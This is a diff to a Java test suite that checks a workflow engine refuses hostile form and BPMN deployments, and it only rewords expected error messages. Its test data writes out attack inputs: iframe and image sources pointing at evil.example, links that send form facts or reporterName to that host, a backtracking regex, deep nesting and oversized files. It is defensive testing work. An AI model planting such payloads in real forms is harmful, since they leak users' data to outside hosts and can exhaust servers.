@@ -303,11 +303,11 @@ class HostileModelTest extends EngineTest {
     private static Stream<Arguments> forms() {
         return Stream.of(
                 attack("a page of HTML", FORM, "\"type\": \"text\"", "\"type\": \"html\", \"content\": \"<b>x</b>\"",
-                        "is of the type 'html'"),
+                        "has the type 'html'"),
                 attack("a frame", FORM, "\"type\": \"text\"", "\"type\": \"iframe\", \"url\": \"https://evil.example\"",
-                        "is of the type 'iframe'"),
+                        "has the type 'iframe'"),
                 attack("a picture that tells", FORM, "\"type\": \"text\"",
-                        "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", "is of the type 'image'"),
+                        "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", "has the type 'image'"),
                 attack("a link", FORM, FACTS, "\"text\": \"[click here](https://evil.example/{{facts}})\"", "contains an address"),
                 attack("a link by reference", FORM, FACTS, "\"text\": \"[click here][x]\"", "contains an address"),
                 attack("a bare address", FORM, FACTS, "\"text\": \"see www.evil.example\"", "contains an address"),
@@ -331,7 +331,7 @@ class HostileModelTest extends EngineTest {
                 attack("a pattern that looks ahead", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"^(?=.*x)(.+)+$\"}",
                         "because of (?=: it looks ahead"),
                 attack("a text that is a field", FORM, FACTS, "\"text\": \"{{reviewComment}}\"",
-                        "the field reviewComment is also shown in a text"),
+                        "the field reviewComment is also displayed in a text"),
                 attack("a deep form", FORM, "\"components\": [", "\"x\": " + "[".repeat(5000) + "]".repeat(5000) + ", \"components\": [",
                         "Not a Camunda Form"),
                 attack("two keys of one name", FORM, "\"components\": [", "\"components\": [], \"components\": [", "Not a Camunda Form"));
@@ -395,7 +395,7 @@ class HostileModelTest extends EngineTest {
     @Test
     void aBigFileAndManyFilesAreRefused() {
         assertThat(deploy("owner", DeploymentRoutes.body(Map.of("big.bpmn", "<x>" + "y".repeat(2_100_000) + "</x>"))).body())
-                .contains("big.bpmn is too big");
+                .contains("big.bpmn is too large");
         Map<String, String> many = IntStream.range(0, 300).boxed().collect(Collectors.toMap(i -> "f" + i + ".form", i -> "{}"));
         assertThat(deploy("owner", DeploymentRoutes.body(many)).body()).contains("too many or too large files");
     }
@@ -406,7 +406,7 @@ class HostileModelTest extends EngineTest {
                 .contains("Too many processes");
         String timer = "<bpmn:startEvent><bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>";
         assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(1, timer.repeat(51))))).body())
-                .contains("50 that a timer starts");
+                .contains("50 timer start events");
     }
 
     private static String definitions(int processes, String inside) {
